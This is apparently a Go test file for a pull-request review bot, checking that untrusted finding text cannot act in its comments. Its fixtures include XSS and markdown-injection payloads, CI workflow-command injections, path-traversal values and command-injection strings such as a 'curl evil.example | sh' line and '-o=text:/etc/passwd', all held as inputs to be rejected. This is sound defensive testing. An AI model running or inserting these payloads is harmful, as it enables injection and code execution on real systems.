package bot

import (
	"encoding/json"
	"errors"
	"fmt"
	"html"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	gmhtml "github.com/yuin/goldmark/renderer/html"

	"github.com/interlock-go/interlock/analyzers/finding"
)

// Texts of a stranger that would act, if a comment showed them as they are.
var hostile = []string{
	"@everyone look", "`@octocat` `", "``` @octocat ```", "#1 GH-1 gh-2 owner/repo#3",
	"http://evil.example www.evil.example",
	"<script>alert(1)</script>", "<img src=x onerror=y>", "--> <b>", "![x](http://evil.example/x.png)", "[x](y)",
	"::error file=a::b", "a\n::set-output name=x::y", "\x1b[31mred", "\u202eright to left",
	"</details>", "| cell | cell |",
	"```suggestion\nx\n```", "<!-- interlock {\"head\":\"x\"} -->", "a\r\nb\x00c", "*bold* _it_ ~~no~~ $x$",
}

// loaded returns a finding of which every free text is s.
func loaded(s string) *finding.Finding {
	place := finding.Position{File: "a.go", Line: 2, Column: 1}
	f := &finding.Finding{Version: finding.SchemaVersion, Code: "IL1001", Status: finding.Confirmed, Title: s, Message: s,
		Variable: finding.Variable{Package: s, Type: s, Name: s + "x"},
		Accesses: []finding.Access{{Position: place, Package: s, Function: s + "f", Expr: s + "e", Source: s,
			Mode: finding.Read, Locks: []string{s}, Role: s}},
		Evidence: &finding.Evidence{Engine: s, Runs: 2, Hits: 1, Replay: s},
		Fix: &finding.Fix{Verdict: finding.Draft, Checked: []string{s}, Doubts: []finding.Doubt{{Text: s}},
			Diff: "--- a/a.go\n+++ b/a.go\n@@ -1 +1,2 @@\n package a\n+// " + strings.ReplaceAll(s, "\n", " ") + "\n"},
		Notes: []string{s}}
	f.ID = f.ComputeID()
	return f
}

const someCommit = "0123456789012345678901234567890123456789"

// stateOf returns the state of a request that adds a.go, with the findings as the second step reads them.
func stateOf(t testing.TB, findings ...*finding.Finding) State {
	t.Helper()
	data, err := json.Marshal(File{Version: FileVersion, Base: someCommit, Head: someCommit, Complete: true,
		Findings: findings})
	if err != nil {
		t.Fatal(err)
	}
	file, _, err := ReadFile(strings.NewReader(string(data)))
	if err != nil {
		t.Fatal(err)
	}
	d, err := ParseDiff("--- /dev/null\n+++ b/a.go\n@@ -0,0 +1,3 @@\n+package a\n+var x = 1\n+var y = 2\n")
	if err != nil {
		t.Fatal(err)
	}
	return State{File: file, Diff: d, Posted: new(Posted), Abilities: Abilities{Suggestions: true, Ranges: true},
		Text: func(path string) (string, error) {
			if path == "a.go" {
				return "package a\nvar x = 1\nvar y = 2\n", nil
			}
			return "", ErrNotFound
		}}
}

// codeParts are the parts of a page in which a host looks for no mention and no link; tags are its tags.
var (
	codeParts = regexp.MustCompile(`(?s)<pre>.*?</pre>|<code>.*?</code>|<!-- interlock [^>]*-->`)
	tags      = regexp.MustCompile(`<[^>]*>`)
)

// pageOf returns a comment as a host renders it, without its code. Raw HTML stays, as it does on a host.
func pageOf(t *testing.T, text string) string {
	t.Helper()
	var b strings.Builder
	md := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(gmhtml.WithUnsafe()))
	if err := md.Convert([]byte(text), &b); err != nil {
		t.Fatal(err)
	}
	return codeParts.ReplaceAllString(b.String(), "")
}

// harmlessTags are those that the bot writes.
var harmlessTags = []string{"<p>", "</p>", "<ul>", "</ul>", "<li>", "</li>", "<strong>", "</strong>",
	"<details>", "</details>", "<summary>", "</summary>"}

// suggestionLine begins a suggestion in a comment.
var suggestionLine = regexp.MustCompile("(?m)^ *`{3,}suggestion")

// acts are the texts in a page on which a host acts.
var acts = map[string]*regexp.Regexp{
	"mention": regexp.MustCompile(`@\w`), "issue": regexp.MustCompile(`#\d|GH-\d|gh-\d`),
	"link": regexp.MustCompile(`://|\bwww\.`), "command": regexp.MustCompile(`(?m)^\s*::|^##\[`),
}

// acting returns what acts in a text of the bot.
func acting(t *testing.T, text string) (all []string) {
	t.Helper()
	if !utf8.ValidString(text) || strings.ContainsAny(text, "\x00\x1b\r\u202e") {
		all = append(all, "a character")
	}
	page := pageOf(t, text)
	for _, tag := range tags.FindAllString(page, -1) {
		if !slices.Contains(harmlessTags, tag) {
			all = append(all, tag)
		}
	}
	for what, re := range acts {
		if m := re.FindString(html.UnescapeString(tags.ReplaceAllString(page, ""))); m != "" {
			all = append(all, what+" "+m)
		}
	}
	if suggestionLine.MatchString(text) {
		all = append(all, "a suggestion")
	}
	return all
}

func TestHostileTexts(t *testing.T) {
	for _, s := range hostile {
		state := stateOf(t, loaded(s))
		if len(state.File.Findings) != 1 {
			t.Fatalf("%q: the finding is left out", s)
		}
		d := Decide(state)
		if len(d.Comments) != 1 {
			t.Fatalf("%q: %d comments", s, len(d.Comments))
		}
		for _, text := range []string{d.Comments[0].Body, d.Whole} {
			for _, what := range acting(t, text) {
				t.Errorf("%q: %s acts in\n%s", s, what, text)
			}
			// The bot's own marker is the last one, and is read back.
			m, ok := markerOf(text)
			if !ok || len(m.IDs) != 1 || m.IDs[0] != state.File.Findings[0].ID {
				t.Errorf("%q: marker %v, %t", s, m, ok)
			}
		}
	}
}

func TestHostileFiles(t *testing.T) {
	write := func(edit func(*File)) string {
		f := File{Version: FileVersion, Base: someCommit, Head: someCommit, Findings: []*finding.Finding{loaded("x")}}
		edit(&f)
		data, err := json.Marshal(f)
		if err != nil {
			t.Fatal(err)
		}
		return string(data)
	}
	many := func(n int) (all []*finding.Finding) {
		for range n {
			all = append(all, nil)
		}
		return all
	}
	for name, text := range map[string]string{
		"empty": "", "no JSON": "x", "a list": "[]", "cut": write(func(*File) {})[:100],
		"version": write(func(f *File) { f.Version = 9 }), "head": write(func(f *File) { f.Head = "--upload-pack=x" }),
		"base": write(func(f *File) { f.Base = "main" }), "module": write(func(f *File) { f.Module = "../x" }),
		"many": write(func(f *File) { f.Findings = many(maxFindings + 1) }),
		"size": strings.Repeat(" ", MaxFile+1),
	} {
		if _, _, err := ReadFile(strings.NewReader(text)); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
	// Findings outside of the repository, or broken ones, are left out one by one.
	in := func(file string) func(*finding.Finding) {
		return func(f *finding.Finding) { f.Accesses[0].File = file }
	}
	for name, edit := range map[string]func(*finding.Finding){
		"up": in("../a.go"), "absolute": in("/a.go"), "git": in(".git/config"), "unclean": in("b/../a.go"),
		"control": in("a\x1b.go"),
		"code":    func(f *finding.Finding) { f.Code = "IL9999" },
		"mode":    func(f *finding.Finding) { f.Accesses[0].Mode = "<b>" },
	} {
		file, leftOut, err := ReadFile(strings.NewReader(write(func(f *File) {
			edit(f.Findings[0])
			f.Findings[0].ID = f.Findings[0].ComputeID()
			f.Findings = append(f.Findings, nil, loaded("y"))
		})))
		if err != nil || leftOut != 2 || len(file.Findings) != 1 {
			t.Errorf("%s: %d left out, %v", name, leftOut, err)
		}
	}
}

// Huge texts are cut, so that no comment exceeds what a host takes.
func TestSizes(t *testing.T) {
	f := loaded(strings.Repeat("@`<&|*\n", 1_000))
	var all []*finding.Finding
	for i := range 60 {
		g := *f
		g.Variable.Name, g.Variable.Type = "x", fmt.Sprintf("T%d", i)
		fix := *f.Fix
		fix.Diff += fmt.Sprintf("+// %d\n", i) // one patch would be one cause
		g.Fix, g.Accesses = &fix, []finding.Access{f.Accesses[0]}
		g.Accesses[0].Function = fmt.Sprintf("f%d", i)
		g.ID = g.ComputeID()
		all = append(all, &g)
	}
	state := stateOf(t, all[:2]...)
	state.File.Findings = all
	d := Decide(state)
	if len(d.Comments) > maxComments || len(d.Chosen) != 60 {
		t.Errorf("%d comments of %d causes", len(d.Comments), len(d.Chosen))
	}
	for _, text := range []string{d.Body, d.Whole, d.Comments[0].Body} {
		if len(text) > 65_535 {
			t.Errorf("a text of %d bytes", len(text))
		}
	}
}

func TestReplay(t *testing.T) {
	for command, want := range map[string]bool{
		"interlock test -runs=1 -seed=7 -only=fsm.go:475:32,fsm.go:357:4 -whole example.com/fsm -- '-run=^TestA$'": true,
		"interlock test -runs 1 -seed 42 ./bank":       true,
		"interlock test -hold=a.go:15:3@10ms ./...":    true,
		"interlock test ./... -- -exec=sh":             false,
		"interlock test ./... -- '-exec=sh -c x'":      false,
		"interlock test -o=text:/etc/passwd ./...":     false,
		"interlock test -C=/ ./...":                    false,
		"interlock test ./... -- -toolexec=x":          false,
		"interlock test ./...; curl evil.example | sh": false,
		"interlock test $(x)":                          false,
		"interlock test `x`":                           false,
		"interlock test './...\nx'":                    false,
		"interlock fix -w ./...":                       false,
		"curl evil.example":                            false,
		"interlock test " + strings.Repeat("x", 2000):  false,
		"": false,
	} {
		if got := isReplay(command); got != want {
			t.Errorf("%.60q: %t, want %t", command, got, want)
		}
	}
}

// FuzzReadFile reads files of strangers, and decides on them: no text makes that fail, or a comment too large.
func FuzzReadFile(f *testing.F) {
	for _, s := range hostile {
		data, err := json.Marshal(File{Version: FileVersion, Base: someCommit, Head: someCommit,
			Findings: []*finding.Finding{loaded(s)}})
		if err != nil {
			f.Fatal(err)
		}
		f.Add(data)
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		file, _, err := ReadFile(strings.NewReader(string(data)))
		if err != nil {
			return
		}
		state := stateOf(t)
		state.File = file
		d := Decide(state)
		for _, c := range d.Comments {
			if len(c.Body) > 65_535 || c.Start > c.End {
				t.Errorf("comment on %d-%d with %d bytes", c.Start, c.End, len(c.Body))
			}
		}
	})
}

// FuzzReplacement applies patches of strangers to a text.
func FuzzReplacement(f *testing.F) {
	f.Add("a\nb\nc\n", "--- a/a.go\n+++ b/a.go\n@@ -1,3 +1,4 @@\n a\n+x\n b\n c\n")
	f.Add("a\n", "--- a/a.go\n+++ b/a.go\n@@ -1 +0,0 @@\n-a\n")
	f.Add("", "--- a/a.go\n+++ b/a.go\n@@ -0,0 +1 @@\n+a\n")
	f.Fuzz(func(t *testing.T, text, patch string) {
		g := loaded("x")
		g.Fix = &finding.Fix{Verdict: finding.Verified, Diff: patch}
		file := &File{}
		lines := splitLines(text)
		for _, d := range patchOf(file, g) {
			if s, ok := replacement(d, lines); ok && (s.start < 1 || s.end < s.start || s.end > len(lines)) {
				t.Errorf("lines %d-%d of %d", s.start, s.end, len(lines))
			}
		}
	})
}

// Errors of reading a text make a finding no worse: it is posted without a suggestion.
func TestTextMissing(t *testing.T) {
	state := stateOf(t, loaded("x"))
	state.Text = func(string) (string, error) { return "", errors.New("no") }
	if d := Decide(state); len(d.Comments) != 1 {
		t.Errorf("%d comments", len(d.Comments))
	}
}
